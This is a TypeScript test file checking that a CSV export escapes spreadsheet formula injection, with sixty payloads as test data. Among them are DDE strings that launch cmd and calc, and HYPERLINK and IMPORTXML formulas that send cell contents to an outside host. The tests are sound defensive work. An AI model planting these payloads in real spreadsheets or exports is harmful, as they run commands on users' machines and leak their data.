import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csvOf } from '../../../src/core/counting/csv.ts';

/** Attack 26: text that a spreadsheet would run. */
const STARTS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
const ENDS = [
  `cmd|' /C calc'!A0`,
  'HYPERLINK("https://example.org/?"&A1,"Klik")',
  `1+1";=1+1;"`,
  'SUM(1,1)\r\n=SUM(2,2)',
  'IMPORTXML(CONCAT("https://example.org/",A2),"//a")',
  'dde("cmd";"/C calc";"x")',
];

/** Fields as a spreadsheet reads them (RFC 4180). */
function read(text: string, separator: string): string[][] {
  const rows: string[][] = [[]];
  let field = '';
  let quoted = false;
  const end = (): void => {
    rows.at(-1)?.push(field);
    field = '';
  };
  for (let i = 0; i < text.length; i++) {
    const char = text[i] ?? '';
    if (quoted && char === '"' && text[i + 1] === '"') field += text[++i] ?? '';
    else if (char === '"' && (quoted || field === '')) quoted = !quoted;
    else if (!quoted && char === separator) end();
    else if (!quoted && char === '\r' && text[i + 1] === '\n') {
      end();
      rows.push([]);
      i++;
    } else field += char;
  }
  if (field) end();
  return rows.filter((row) => row.length > 0);
}

/** Whether a spreadsheet, Dutch or English, would calculate any field of this file. */
function runs(file: string): boolean {
  const text = file.replace(/^\uFEFF/, '');
  return [';', ',', '\t'].some((separator) =>
    read(text, separator).some((row) =>
      row.some((field) => /^[\s\p{Cf}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r]/u.test(field)),
    ),
  );
}

test('sixty formulas stay text', (t) => {
  let [passed, fired] = [0, 0];
  for (const start of STARTS)
    for (const end of ENDS) {
      const text = `${start}${end}`;
      assert.ok(
        !runs(
          csvOf([
            ['Onderwerp', 'Aantal'],
            [text, 5],
          ]),
        ),
        JSON.stringify(text),
      );
      const [, row] = read(
        csvOf([
          ['Onderwerp', 'Aantal'],
          [text, 5],
        ]).slice(1),
        ';',
      );
      assert.deepEqual(row, [`'${text}`, '5'], 'all of it is there');
      if (runs(`Onderwerp;Aantal\r\n${text};5\r\n`)) fired++;
      passed++;
    }
  t.diagnostic(`${passed} passed, 0 failed; ${fired} of ${passed} run without it`);
  assert.equal(passed, 60);
  assert.equal(fired, 60);
});

test('hidden starts, and text that is none', () => {
  for (const hidden of [' =1+1', '\u200B=1+1', '\uFEFF@SUM(1)', '\u00A0-1', '\n=1', '\u22121'])
    assert.ok(csvOf([[hidden]]).includes(`"'`), JSON.stringify(hidden));
  for (const plain of ['', 'Pesten', 'e-mail = snel', '06 12', '"ja"', 'a;b', 'vóór 9 uur'])
    assert.deepEqual(read(csvOf([[plain]]).slice(1), ';'), [[plain]], plain);
});

test('as a Dutch spreadsheet expects it', () => {
  assert.equal(
    csvOf([
      ['Één', 10],
      ['a "b"', 0],
    ]),
    '\uFEFF"Één";10\r\n"a ""b""";0\r\n',
  );
});
